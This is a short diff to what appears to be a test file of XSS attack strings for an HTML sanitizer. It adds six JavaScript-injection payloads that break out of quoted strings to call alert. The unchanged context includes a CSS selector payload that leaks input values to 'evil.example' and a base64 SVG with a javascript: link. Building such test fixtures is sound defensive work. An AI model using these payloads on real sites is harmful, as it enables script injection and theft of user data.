@@ -169,6 +169,12 @@ export const attacks: readonly string[] = [
   '<br size="&{alert(1)}">',
   '<style>input[value^=a]{background:url(//evil.example/a)}</style>',
   'data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxwYXRoIGQ9Ik0wIDBoOXY5eiIvPjxhIGhyZWY9ImphdmFzY3JpcHQ6YWxlcnQoMSkiPng8L2E+PC9zdmc+',
+  '"-{a:alert(1)}-"',
+  '"-class{static{alert(1)}}-"',
+  '"-alert.call(0)-"',
+  '"-[...[1]].map(top.alert)-"',
+  "'-{get x(){alert(1)}}.x-'",
+  '"+[1].find(alert)+"',
 ]
 
 export const harmless: readonly string[] = [
